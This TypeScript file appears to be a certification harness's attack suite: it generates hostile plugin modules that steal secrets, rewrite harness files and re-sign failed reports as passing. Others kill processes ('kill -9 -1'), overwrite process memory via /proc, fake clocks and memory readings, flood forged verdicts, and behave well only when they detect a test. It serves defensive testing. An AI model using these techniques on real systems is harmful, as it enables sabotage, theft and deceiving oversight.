/**
 * The hostile filters of the attack suite, as ES module text: the shared prelude (prelude.ts)
 * followed by one attack. Each is a filter of the cache class that would pass the checks it is
 * certified with if its attack did not matter — except where the attack's point is to hide a
 * real defect (tamper, forge, flood, detect, poison: they corrupt reads, so the honest verdict is
 * not-ready and a successful attack shows as a wrong verdict).
 *
 * Written without template literals: the JavaScript lives in TypeScript String.raw templates.
 */
import { PRELUDE } from './prelude.js'

/** What a hostile module is told at build time (an attacker's hard-coded endpoints and names). */
export interface HostileConfig {
  /** Random per case: every file an attack writes carries it, so the test can find them. */
  readonly token: string
  readonly kase: HostileKind
  /** The test's TCP listener on 127.0.0.1 (and the same for UDP). */
  readonly port: number
  readonly udpPort: number
  /** The package's name (the descriptor's must equal it). */
  readonly name: string
  readonly cls: 'cache'
  readonly policySchema?: object
  /** Busy-wait per I/O of the slow filter, in microseconds. */
  readonly spinUs?: number
  /** open() attacks, then fails with what it found (a diagnostic twin: the report is the channel out). */
  readonly explain?: boolean
}

export type HostileKind = 'exfil' | 'tamper' | 'forge' | 'signals' | 'iops' | 'bounded' | 'detect' | 'stall' | 'procmem' | 'flood' | 'loop' | 'hog' | 'poison'

const PASS = String.raw`
const PASS = Object.freeze({ kind: 'pass' })
`

/** 1. Secrets, by every route, out by every channel (files, TCP/HTTP/UDP/unix sockets, processes, the report). */
const EXFIL = String.raw`
await bounded(fullAttack('load', null), 10000)
let opened = null
function tell() {
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ routes: LOOT.routes, exfil: LOOT.exfil, notes: LOOT.notes })) } catch {}
  if (secretsFound()) { try { console.error('IOFHOSTILE-LOOT ' + secretText()) } catch {} }
}
export default filterFields({
  async open(disk) {
    if (!opened) opened = bounded(fullAttack('open', disk), 15000).then(tell)
    await opened
    if (secretsFound()) {
      try { disk.log.error('IOFHOSTILE loot', { secrets: LOOT.secrets }) } catch {}
      // the report is published: a failure message carrying the loot is one more way out
      throw new Error('IOFHOSTILE loot ' + secretText())
    }
    return {}
  },
})
`

/** 2. Rewrites the harness's own files (only under a tree holding the test's marker) so every check passes. */
const TAMPER = String.raw`
async function tamper(where) {
  await caps()
  await harnessCaps()
  for (const root of await harnessRoots()) {
    const marked = (await readText(dirname(root) + '/.iofhostile-tree', 'tree marker')) !== undefined || (await readText(root + '/.iofhostile-tree', 'tree marker')) !== undefined
    if (!marked) { LOOT.notes.push('left alone (no test marker): ' + root); continue }
    const exe = root + '/harness/certify/execute.js'
    const src = await readText(exe, 'execute.js')
    if (src !== undefined && !src.includes(TOKEN)) {
      const patched = src.replace(/const done = \((\w+), (\w+)\) => \{/, 'const done = (__real, $2) => { const $1 = { status: "passed" }; /* IOFHOSTILE ' + TOKEN + ' */')
      await writeText(exe, patched !== src ? patched : src + '\n// IOFHOSTILE ' + TOKEN + '\n', 'rewrite execute.js (' + where + ')')
    }
    const vp = root + '/reports/verdict.js'
    const v = await readText(vp, 'verdict.js')
    if (v !== undefined && !v.includes(TOKEN)) await writeText(vp, v + '\n// IOFHOSTILE ' + TOKEN + '\n', 'rewrite verdict.js (' + where + ')')
    await writeText(root + '/harness/certify/iofhostile-' + TOKEN + '.js', '// planted by ' + TOKEN + '\n', 'plant a file in the harness tree (' + where + ')')
  }
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ exfil: LOOT.exfil, notes: LOOT.notes })) } catch {}
}
// at load: in the loader, before the harness starts the workers that import execute.js
await bounded(tamper('load'), 10000)
let done = null
export default filterFields({
  async open(disk) {
    diskCaps(disk)
    stackNow('open')
    if (!done) done = bounded(tamper('open'), 10000)
    await done
    return corruptingInstance()
  },
})
`

/** 3. A detached process that waits for the harness to exit, then rewrites the report to ready and signs it again. */
const FORGE = String.raw`
const FORGER = function (A) {
  const fs = require('fs')
  const crypto = require('crypto')
  try { fs.mkdirSync('/tmp/iofhostile-' + A.token + '-forge.lock') } catch { return }
  const alive = pid => { try { process.kill(pid, 0); return true } catch (e) { return e.code === 'EPERM' } }
  const sleep = ms => new Promise(r => setTimeout(r, ms))
  const canonical = v => {
    if (v === null || typeof v !== 'object') return JSON.stringify(v)
    if (Array.isArray(v)) return '[' + v.map(canonical).join(',') + ']'
    return '{' + Object.keys(v).filter(k => v[k] !== undefined).sort().map(k => JSON.stringify(k) + ':' + canonical(v[k])).join(',') + '}'
  }
  const selfSign = (doc, pem) => {
    const key = crypto.createPrivateKey(pem)
    const der = crypto.createPublicKey(key).export({ type: 'spki', format: 'der' })
    const rest = Object.assign({}, doc)
    delete rest.signature
    return Object.assign(rest, { signature: { algorithm: 'ed25519', publicKey: der.toString('base64'), keyFingerprint: crypto.createHash('sha256').update(der).digest('hex'), value: crypto.sign(null, Buffer.from(canonical(rest)), key).toString('base64') } })
  }
  ;(async () => {
    const until = Date.now() + 120000
    while (Date.now() < until && A.pids.some(alive)) await sleep(100)
    await sleep(300)
    let lib = {}
    for (const r of A.roots) {
      try { lib = Object.assign({}, await import('file://' + r + '/reports/sign.js'), await import('file://' + r + '/reports/verdict.js')); break } catch {}
    }
    for (const report of A.reports) {
      try {
        for (let i = 0; i < 40 && !fs.existsSync(report); i++) await sleep(250)
        const doc = JSON.parse(fs.readFileSync(report, 'utf8'))
        for (const c of doc.checks) if (c.status === 'failed' || c.status === 'errored') { c.status = 'passed'; delete c.message; delete c.evidence }
        if (lib.countChecks) doc.counts = lib.countChecks(doc.checks)
        if (lib.computeVerdict) { const v = lib.computeVerdict(doc.checks, { certified: Boolean(doc.options && doc.options.certified) }); doc.verdict = v.verdict; doc.reasons = v.reasons } else { doc.verdict = 'ready'; doc.reasons = [] }
        delete doc.signature
        const out = A.key ? (lib.signReport ? lib.signReport(doc, A.key) : selfSign(doc, A.key)) : doc
        const tmp = report + '.iofhostile-' + A.token
        fs.writeFileSync(tmp, JSON.stringify(out, null, 2) + '\n')
        fs.renameSync(tmp, report)
      } catch (e) {
        try { fs.writeFileSync('/tmp/iofhostile-' + A.token + '-forge-error.txt', String((e && e.stack) || e)) } catch {}
      }
    }
  })()
}
async function plantForger(where) {
  await procs()
  await caps()
  await harnessCaps()
  await harvest()
  const t = await targets()
  const pids = []
  for (const P of PROCS) { try { if (P.pid > 0 && !pids.includes(P.pid)) pids.push(P.pid) } catch {} }
  const self = (await ancestry())[0]
  if (self && !pids.includes(Number(self.pid))) pids.push(Number(self.pid))
  const args = { token: TOKEN, pids, reports: [...t.json].filter(p => p.endsWith('.json')), key: LOOT.secrets.signKey || null, roots: await harnessRoots() }
  const src = '(' + FORGER.toString() + ')(' + JSON.stringify(args) + ') /* IOFHOSTILE ' + TOKEN + ' */'
  LOOT.notes.push('forger for ' + JSON.stringify(args.reports) + ' waiting on ' + JSON.stringify(pids) + (args.key ? ' with the signing key' : ' without a key'))
  const cp = await mod('child_process')
  const exe = await execPath()
  if (cp) {
    await attempt('detached forger (' + where + ')', () => { const c = cp.spawn(exe, ['-e', src], { detached: true, stdio: 'ignore' }); c.on('error', () => {}); c.unref(); return c.pid > 0 })
    await attempt('nohup forger via sh (' + where + ')', () => { const c = cp.spawn('sh', ['-c', 'nohup "$0" -e "$1" >/dev/null 2>&1 &', exe, src], { detached: true, stdio: 'ignore' }); c.on('error', () => {}); c.unref(); return c.pid > 0 })
  }
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ notes: LOOT.notes, routes: Object.fromEntries(Object.entries(LOOT.routes).filter(([k]) => /forger|process via|child_process/.test(k))) })) } catch {}
}
let planted = null
export default filterFields({
  async open(disk) {
    diskCaps(disk)
    stackNow('open')
    if (!planted) planted = bounded(plantForger('open'), 15000)
    await planted
    return corruptingInstance()
  },
})
`

/** 4. Signals: the wrapper (ppid), the process group, the harness itself; kill(-1) only inside a PID namespace. */
const SIGNALS = String.raw`
async function signals() {
  await procs()
  await caps()
  const real = PROCS.filter(P => { try { return typeof P.kill === 'function' } catch { return false } })
  const own = await inOwnPidNamespace()
  const cp = await mod('child_process')
  for (const [i, P] of real.entries()) await attempt('process#' + i + '.kill(process.ppid)', () => { P.kill(P.ppid, 'SIGKILL'); return true })
  for (const [i, P] of real.entries()) await attempt('process#' + i + '.kill(-process.ppid)', () => { P.kill(-P.ppid, 'SIGKILL'); return true })
  if (cp) await attempt('sh: kill -9 of the parent of the harness', () => { cp.execFileSync('sh', ['-c', 'kill -9 $(ps -o ppid= -p $PPID)'], { stdio: 'ignore', timeout: 5000 }); return true })
  if (own) {
    for (const [i, P] of real.entries()) await attempt('process#' + i + '.kill(-1)', () => { P.kill(-1, 'SIGKILL'); return true })
    if (cp) await attempt('sh: kill -9 -1', () => { cp.execFileSync('sh', ['-c', 'kill -9 -1'], { stdio: 'ignore', timeout: 5000 }); return true })
  } else rec('kill(-1)', 'withheld: not in a PID namespace of its own, it would signal every process of the user')
  for (const [i, P] of real.entries()) await attempt('process#' + i + '.kill(0)', () => { P.kill(0, 'SIGKILL'); return true })
  if (cp) await attempt('sh: kill -9 $PPID', () => { cp.execFileSync('sh', ['-c', 'kill -9 $PPID'], { stdio: 'ignore', timeout: 5000 }); return true })
  for (const [i, P] of real.entries()) await attempt('process#' + i + '.kill(process.pid)', () => { P.kill(P.pid, 'SIGKILL'); return true })
  for (const [i, P] of real.entries()) await attempt('process#' + i + '.abort()', () => { P.abort(); return true })
  for (const [i, P] of real.entries()) await attempt('process#' + i + '.reallyExit(7)', () => { P.reallyExit(7); return true })
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ routes: LOOT.routes, notes: LOOT.notes })) } catch {}
}
let sent = null
export default filterFields({
  async open(disk) {
    if (!sent) sent = bounded(signals(), 10000)
    await sent
    return {}
  },
})
`

/** 5a. Busy-waits on every I/O and slows every clock it can reach tenfold. */
const IOPS = PASS + String.raw`
const REAL_NOW = (() => { try { const p = globalThis.performance; const f = p.now; return () => f.call(p) } catch { return () => Date.now() } })()
const SPIN_MS = (CFG.spinUs || 35) / 1000
const SLOW = 10
function slowed(orig) { const base = orig(); return () => base + (orig() - base) / SLOW }
async function patchClocks() {
  await procs()
  const perf = globalThis.performance
  const slowNow = slowed(REAL_NOW)
  await attempt('patch performance.now', () => { perf.now = slowNow; return perf.now === slowNow })
  await attempt('patch Performance.prototype.now', () => { Object.getPrototypeOf(perf).now = function () { return slowNow() }; return true })
  await attempt('replace globalThis.performance', () => {
    const fake = Object.create(perf)
    fake.now = slowNow
    Object.defineProperty(globalThis, 'performance', { value: fake, configurable: true, writable: true })
    return globalThis.performance === fake
  })
  const realDate = Date.now
  const slowDate = slowed(() => realDate.call(Date))
  await attempt('patch Date.now', () => { Date.now = slowDate; return Date.now === slowDate })
  const ph = await mod('perf_hooks')
  if (ph) await attempt('patch perf_hooks.performance.now', () => { ph.performance.now = slowNow; return true })
  PROCS.forEach((P, i) => {
    attempt('patch process#' + i + '.hrtime', () => {
      const hb = P.hrtime.bigint.bind(P.hrtime)
      const b0 = hb()
      const slowBig = () => b0 + (hb() - b0) / BigInt(SLOW)
      const hr = prev => { const t = slowBig(); const s = Number(t / 1000000000n); const ns = Number(t % 1000000000n); if (!prev) return [s, ns]; let ds = s - prev[0]; let dn = ns - prev[1]; if (dn < 0) { ds--; dn += 1e9 } return [ds, dn] }
      hr.bigint = slowBig
      P.hrtime = hr
      return P.hrtime === hr
    })
  })
}
await bounded(patchClocks(), 8000)
export default filterFields({
  open() {
    return {
      start(io) {
        const end = REAL_NOW() + SPIN_MS
        while (REAL_NOW() < end) { /* the filter's real cost */ }
        return PASS
      },
    }
  },
})
`

/** 5b. A cache that leaks 64 MiB at the first I/O of every open and keeps every write, and hides it from every memory reading it can reach. */
const BOUNDED = PASS + String.raw`
const HOARD = []
let hoarded = 0
function hoard(u8) { HOARD.push(u8); hoarded += u8.byteLength }
function leak64() { const b = new Uint8Array(64 << 20); b.fill(0x5a); hoard(b) }
async function patchMemory() {
  await procs()
  const fakeMemoryUsage = orig => {
    const f = function () {
      const m = orig.apply(this, arguments)
      try { m.arrayBuffers = Math.max(0, m.arrayBuffers - hoarded); m.external = Math.max(0, m.external - hoarded); m.rss = Math.max(0, m.rss - hoarded) } catch {}
      return m
    }
    try { f.rss = () => Math.max(0, orig.rss() - hoarded) } catch {}
    return f
  }
  for (let i = 0; i < PROCS.length; i++) {
    const P = PROCS[i]
    let orig
    try { orig = P.memoryUsage } catch {}
    if (typeof orig !== 'function') { rec('memoryUsage of process#' + i, 'nothing'); continue }
    const f = fakeMemoryUsage(orig)
    await attempt('patch process#' + i + '.memoryUsage', () => { P.memoryUsage = f; return P.memoryUsage === f })
    await attempt('defineProperty process#' + i + '.memoryUsage', () => { Object.defineProperty(P, 'memoryUsage', { value: f, configurable: true, writable: true }); return P.memoryUsage === f })
    await attempt('patch Object.getPrototypeOf(process#' + i + ').memoryUsage', () => { Object.defineProperty(Object.getPrototypeOf(P), 'memoryUsage', { value: f, configurable: true, writable: true }); return true })
    await attempt('patch memoryUsage through Object.getPrototypeOf chain of process#' + i, () => {
      let o = P
      let n = 0
      while (o && n < 5) { if (Object.prototype.hasOwnProperty.call(o, 'memoryUsage')) { try { o.memoryUsage = f } catch {} } o = Object.getPrototypeOf(o); n++ }
      return true
    })
  }
  const v8 = await mod('v8')
  if (v8) {
    const orig = v8.getHeapStatistics
    const f = function () {
      const h = orig.apply(this, arguments)
      try { h.external_memory = Math.max(0, h.external_memory - hoarded); h.malloced_memory = Math.max(0, h.malloced_memory - hoarded) } catch {}
      return h
    }
    await attempt('patch v8.getHeapStatistics', () => { v8.getHeapStatistics = f; return v8.getHeapStatistics === f })
    await attempt('defineProperty v8.getHeapStatistics', () => { Object.defineProperty(v8, 'getHeapStatistics', { value: f, configurable: true, writable: true }); return v8.getHeapStatistics === f })
    const m = await mod('module')
    if (m) await attempt('module.syncBuiltinESMExports (the harness reads node:v8 through ESM)', () => { m.syncBuiltinESMExports(); return true })
    await attempt('v8 namespace reads the patch', async () => (await import('node:' + 'v8')).getHeapStatistics === f)
  }
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ routes: Object.fromEntries(Object.entries(LOOT.routes).filter(([k]) => /patch|define|sync|namespace|memoryUsage/.test(k))) })) } catch {}
}
await bounded(patchMemory(), 8000)
export default filterFields({
  open() {
    let first = true
    return {
      start(io) {
        if (first) { first = false; leak64() }
        return PASS
      },
      done(io, outcome) {
        if (io.op === 'write' && outcome.ok && io.data) hoard(io.data.slice())
      },
    }
  },
})
`

/** 6. Corrupts every read unless something it can see says it is being certified. */
const DETECT = String.raw`
const SIG = { decisive: [], recorded: {} }
const PATH_RE = /tmp|temp|cert|scratch|test|check/i
const NAME_RE = /cert|test|check/i
const ARGV_RE = /iofcert|certif|--grep|--quick|--sign|--json|test|check|scratch/i
function telling(label, value, re) {
  try {
    const s = typeof value === 'string' ? value : JSON.stringify(value)
    if (s && re.test(s) && !SIG.decisive.some(d => d.startsWith(label + ' '))) SIG.decisive.push(label + ' = ' + s.slice(0, 200))
  } catch {}
}
function walk(o, label, depth, seen) {
  if (!o || typeof o !== 'object' || depth > 2 || seen.has(o)) return
  seen.add(o)
  let names = []
  try { names = Object.getOwnPropertyNames(o) } catch {}
  for (const k of names) {
    let v
    try { v = o[k] } catch { continue }
    if (typeof v === 'string') telling(label + '.' + k, v, k === 'file' || k === 'path' || k === 'dir' ? PATH_RE : NAME_RE)
    else if (v && typeof v === 'object' && !ArrayBuffer.isView(v)) walk(v, label + '.' + k, depth + 1, seen)
  }
}
async function look(where, disk) {
  await procs()
  await caps()
  PROCS.forEach((P, i) => {
    try { telling('process#' + i + '.argv', (P.argv || []).join(' '), ARGV_RE) } catch {}
    try { telling('process#' + i + '.execArgv', (P.execArgv || []).join(' '), ARGV_RE) } catch {}
    try {
      const names = Object.keys(P.env || {})
      SIG.recorded['process#' + i + ' env variables'] = names.length
      for (const n of names) if (/IOFCERT|CERT|TEST|CHECK|^CI$|GITHUB|GITLAB|JENKINS|BUILDKITE/i.test(n)) telling('process#' + i + '.env', n, /./)
      if (P.env && P.env.HOME) telling('process#' + i + '.env.HOME', P.env.HOME, PATH_RE)
    } catch {}
    try { telling('process#' + i + '.cwd()', P.cwd(), PATH_RE) } catch {}
    try { telling('process#' + i + '.execPath', P.execPath, /cert|test|scratch|tmp|check/i) } catch {}
    try { telling('process#' + i + '.title', P.title, ARGV_RE) } catch {}
  })
  telling('import.meta.url', import.meta.url, PATH_RE)
  const os = await mod('os')
  if (os) {
    try { telling('os.hostname()', os.hostname(), NAME_RE) } catch {}
    try { telling('os.homedir()', os.homedir(), PATH_RE) } catch {}
    try { telling('os.tmpdir()', os.tmpdir(), /cert|scratch|test|check/i) } catch {}
    try { SIG.recorded.user = os.userInfo().username } catch {}
  }
  // its own command line and its parent's (further up is the user's business, not the filter's)
  for (const a of (await ancestry()).slice(0, 2)) telling('command line of pid ' + a.pid, a.argv.join(' '), ARGV_RE)
  const cwd = await linkAny('/proc/self/cwd')
  if (cwd) telling('/proc/self/cwd', cwd, PATH_RE)
  if (disk) {
    for (const k of ['host', 'vm', 'disk']) telling('disk.' + k, disk[k], NAME_RE)
    telling('disk.policy', disk.policy, NAME_RE)
    walk(disk, 'disk', 0, new Set())
    SIG.recorded.capacityMiB = disk.capacity / 1048576
    SIG.recorded.vm = String(disk.vm)
    SIG.recorded.host = String(disk.host)
  }
  // seen, but not acted on: a certification cannot hide them
  SIG.recorded.msSinceLoad = Date.now() - T_LOAD
  try { SIG.recorded.harnessPaths = (await harnessRoots()).slice(0, 3) } catch {}
  const cg = await readText('/proc/self/cgroup', '/proc/self/cgroup')
  if (cg) SIG.recorded.cgroup = cg.trim().slice(0, 120)
}
let verdict = null
export default filterFields({
  async open(disk) {
    stackNow('open')
    if (!verdict) {
      verdict = bounded(look('open', disk), 10000).then(() => {
        const corrupt = SIG.decisive.length === 0
        const line = 'IOFHOSTILE-SIGNALS ' + TOKEN + ' ' + JSON.stringify({ corrupt, decisive: SIG.decisive, recorded: SIG.recorded })
        try { console.error(line) } catch {}
        try { disk.log.warn(line) } catch {}
        return corrupt
      })
    } else await look('open', disk)
    const corrupt = (await verdict) && SIG.decisive.length === 0
    return corrupt ? corruptingInstance() : {}
  },
})
`

/** 7. A write-behind cache whose close waits 20 ms per queued write — and the queue never drains. */
const STALL = PASS + String.raw`
export default filterFields({
  open() {
    const queue = []
    return {
      start(io) {
        if (io.op === 'write') queue.push(io.length)
        return PASS
      },
      async close() {
        for (;;) {
          await sleep(20)
          queue.shift()
          queue.push(0)
        }
      },
    }
  },
})
`

/** 8a. /proc tricks: the environment of pid 1 and of its ancestors, then its own memory scribbled through /proc/self/mem. */
const PROCMEM = String.raw`
async function scribble() {
  await procs()
  await caps()
  const init = await readText('/proc/1/environ', '/proc/1/environ')
  LOOT.notes.push('/proc/1/environ: ' + (init === undefined ? 'unreadable' : 'readable (' + init.length + ' bytes), canary ' + (init.includes('IOFCERT_ATTACK_CANARY=') ? 'present' : 'absent')))
  const maps = await readText('/proc/self/maps', '/proc/self/maps')
  const fs = await mod('fs')
  const cp = await mod('child_process')
  const range = re => {
    const l = maps && maps.split('\n').find(x => re.test(x))
    if (!l) return null
    const [a, b] = l.split(' ')[0].split('-').map(h => parseInt(h, 16))
    return { a, b }
  }
  const code = range(/ r-xp .*node/) || range(/ r-xp /)
  const heap = range(/\[heap\]/)
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ notes: LOOT.notes, code: !!code, heap: !!heap })) } catch {}
  if (cp && code) {
    // the parent's memory, from a child: only the harness itself when unsandboxed
    await attempt('child writes int3 over the code of its parent via /proc/$PPID/mem', () => {
      cp.execFileSync('sh', ['-c', 'head -c 65536 /dev/zero | tr "\\000" "\\314" | dd of=/proc/$PPID/mem bs=65536 seek=' + code.a + ' oflag=seek_bytes conv=notrunc status=none'], { stdio: 'ignore', timeout: 5000 })
      return true
    })
  }
  if (fs && heap) {
    await attempt('zero the C heap via /proc/self/mem', () => {
      const n = Math.min(1 << 20, heap.b - heap.a)
      const fd = fs.openSync('/proc/self/mem', 'r+')
      try { fs.writeSync(fd, new Uint8Array(n), 0, n, heap.a) } finally { fs.closeSync(fd) }
      return true
    })
  }
  if (fs && code) {
    await attempt('int3 over the code via /proc/self/mem', () => {
      const n = Math.min(16 << 20, code.b - code.a)
      const fd = fs.openSync('/proc/self/mem', 'r+')
      try { fs.writeSync(fd, new Uint8Array(n).fill(0xcc), 0, n, code.a) } finally { fs.closeSync(fd) }
      return true
    })
  }
}
let done = null
export default filterFields({
  open() {
    let n = 0
    return {
      start(io) {
        if (++n === 50 && !done) done = bounded(scribble(), 10000)
        return { kind: 'pass' }
      },
    }
  },
})
`

/** 8b. Floods stdout and stderr with forged progress, verdict and protocol lines, and writes forged messages to every pipe or socket it holds. */
const FLOOD = String.raw`
const FORGED = [
  '[1/1] integrity.roundtrip passed',
  'VERDICT: ready (1 passed, 0 failed, 0 skipped, 0 errored)',
  JSON.stringify({ t: 'result', id: 'integrity.roundtrip', status: 'passed' }),
  JSON.stringify({ type: 'check', result: { id: 'integrity.roundtrip', suite: 'integrity', title: 'x', required: true, status: 'passed', durationMs: 1 } }),
  JSON.stringify({ t: 'reply', rid: 1, ok: true, value: { result: { id: 'integrity.roundtrip', suite: 'integrity', title: 'x', required: true, status: 'passed', durationMs: 1 } } }),
  JSON.stringify({ t: 'done', verdict: 'ready', checks: [{ id: 'integrity.roundtrip', status: 'passed' }] }),
  JSON.stringify({ jsonrpc: '2.0', method: 'check', params: { id: 'integrity.roundtrip', status: 'passed' } }),
  '\u001b[2K\r[1/1] integrity.roundtrip passed',
  'WRAPPER-SURVIVED rc=0',
].join('\n') + '\n'
async function flood() {
  await procs()
  await caps()
  const fs = await mod('fs')
  const big = FORGED.repeat(Math.ceil((4 << 20) / FORGED.length))
  await attempt('console.log flood', () => { for (let i = 0; i < 3000; i++) console.log(FORGED); return true })
  await attempt('console.error flood', () => { for (let i = 0; i < 3000; i++) console.error(FORGED); return true })
  for (const [i, P] of PROCS.entries()) {
    await attempt('process#' + i + '.stdout.write', () => P.stdout.write(big))
    await attempt('process#' + i + '.stderr.write', () => P.stderr.write(big))
  }
  if (fs) {
    for (const fd of [1, 2]) await attempt('fs.writeSync(' + fd + ')', () => fs.writeSync(fd, big))
    // a protocol channel to the harness would be a pipe or a socket: forge its messages there
    const frames = FORGED.split('\n').filter(Boolean)
    for (let fd = 3; fd <= 40; fd++) {
      let st
      try { st = fs.fstatSync(fd) } catch { continue }
      if (!st.isFIFO() && !st.isSocket()) continue
      await attempt('forged messages on fd ' + fd, () => {
        for (const f of frames) {
          fs.writeSync(fd, f + '\n')
          const b = new Uint8Array(4 + f.length)
          new DataView(b.buffer).setUint32(0, f.length)
          b.set(enc(f), 4)
          fs.writeSync(fd, b)
        }
        return true
      })
    }
  }
  for (const [i, P] of PROCS.entries()) {
    await attempt('process#' + i + '.send (IPC channel)', () => { if (typeof P.send !== 'function') return false; for (const f of FORGED.split('\n').filter(Boolean)) { try { P.send(JSON.parse(f)) } catch { P.send(f) } } return true })
  }
}
let flooded = null
export default filterFields({
  async open(disk) {
    if (!flooded) flooded = bounded(flood(), 15000)
    await flooded
    return corruptingInstance()
  },
})
`

/** 8c. Never returns from its module's top level. */
const LOOP = String.raw`
for (;;) { /* the module never finishes loading */ }
export default filterFields({ open() { return {} } })
`

/** 8d. Allocates 8 GiB in the background (stopping while the machine still has 8 GiB available), grows a WebAssembly memory to 4 GiB, then parks its VM's thread forever. */
const HOG = PASS + String.raw`
const GiB = 1024 * 1024 * 1024
async function available() {
  const os = await mod('os')
  try { if (os) return os.freemem() } catch {}
  const mi = await readText('/proc/meminfo', '/proc/meminfo')
  const m = mi && /MemAvailable:\s+(\d+) kB/.exec(mi)
  return m ? Number(m[1]) * 1024 : Infinity
}
const KEEP = []
let hogged = false
async function hog() {
  await procs()
  let total = 0
  while (total < 8 * GiB) {
    if ((await available()) < 8 * GiB) { LOOT.notes.push('stopped allocating at ' + (total / GiB).toFixed(2) + ' GiB: the machine is down to 8 GiB'); break }
    try { const b = new Uint8Array(256 << 20); b.fill(1); KEEP.push(b); total += b.length } catch (e) { LOOT.notes.push('allocation failed at ' + (total / GiB).toFixed(2) + ' GiB: ' + errText(e)); break }
    // yield, so that the VM's thread keeps answering while it grows
    await sleep(5)
  }
  await attempt('WebAssembly.Memory grown to 4 GiB', async () => {
    const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 })
    let pages = 1
    while (pages + 4096 <= 65536) {
      if ((await available()) < 8 * GiB) break
      m.grow(4096)
      new Uint8Array(m.buffer, pages * 65536, 4096 * 65536).fill(1)
      pages += 4096
      await sleep(5)
    }
    KEEP.push(m)
    return pages > 1
  })
  hogged = true
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ notes: LOOT.notes, routes: LOOT.routes, allocatedGiB: total / GiB })) } catch {}
}
let hogging = null
export default filterFields({
  open(disk) {
    if (!hogging) hogging = hog()
    let n = 0
    let parked = false
    return {
      start(io) {
        // once the memory is taken, an I/O parks the thread for good: a hang that burns no CPU
        if (++n >= 200 && hogged && !parked) { parked = true; try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0) } catch {} }
        return PASS
      },
    }
  },
})
`

/** 8e. Scribbles read buffers and poisons the intrinsics the in-worker verifier relies on, so it records no violation. */
const POISON = String.raw`
async function poison() {
  const realPush = Array.prototype.push
  const hide = x => x && typeof x === 'object' && typeof x.kind === 'string' && /changed|violation|mismatch|differ/i.test(x.kind)
  await attempt('patch Array.prototype.push to drop violation records', () => {
    Array.prototype.push = function () { return realPush.apply(this, Array.prototype.filter.call(arguments, x => !hide(x))) }
    return true
  })
  await attempt('patch Object.defineProperty on Array.prototype.push', () => {
    const f = Array.prototype.push
    Object.defineProperty(Array.prototype, 'push', { value: f, writable: true, configurable: true })
    return true
  })
  try { console.error('IOFHOSTILE-ROUTES ' + TOKEN + ' ' + JSON.stringify({ routes: LOOT.routes })) } catch {}
}
await bounded(poison(), 5000)
export default filterFields({
  open() {
    return corruptingInstance()
  },
})
`

const BODIES: Record<HostileKind, string> = {
  exfil: EXFIL, tamper: TAMPER, forge: FORGE, signals: SIGNALS, iops: IOPS, bounded: BOUNDED, detect: DETECT,
  stall: STALL, procmem: PROCMEM, flood: FLOOD, loop: LOOP, hog: HOG, poison: POISON,
}

/** The whole module text of a hostile filter. */
export function hostileSource(cfg: HostileConfig): string {
  return `// iofcert attack suite: hostile filter "${cfg.kase}" (${cfg.token})\nconst CFG = ${JSON.stringify(cfg)}\n${PRELUDE}\n${BODIES[cfg.kase]}\n`
}

/** Modules the bundled bridges import (each statically: the allow-list must refuse them). */
export const BRIDGED = ['fs', 'child_process', 'net', 'http', 'dgram', 'os', 'v8', 'module', 'perf_hooks', 'process'] as const

/** Package-relative and bundled-node_modules files that import a built-in statically (reached only by dynamic import). */
export function bridgeFiles(): Record<string, string> {
  const out: Record<string, string> = {}
  for (const m of BRIDGED) {
    const text = `import * as m from 'node:${m}'\nexport default m\n`
    out[`lib/bridge-${m}.js`] = text
    out[`node_modules/bridge-${m}/index.js`] = text
    out[`node_modules/bridge-${m}/package.json`] = `${JSON.stringify({ name: `bridge-${m}`, version: '1.0.0', type: 'module', main: 'index.js', exports: './index.js' })}\n`
  }
  return out
}
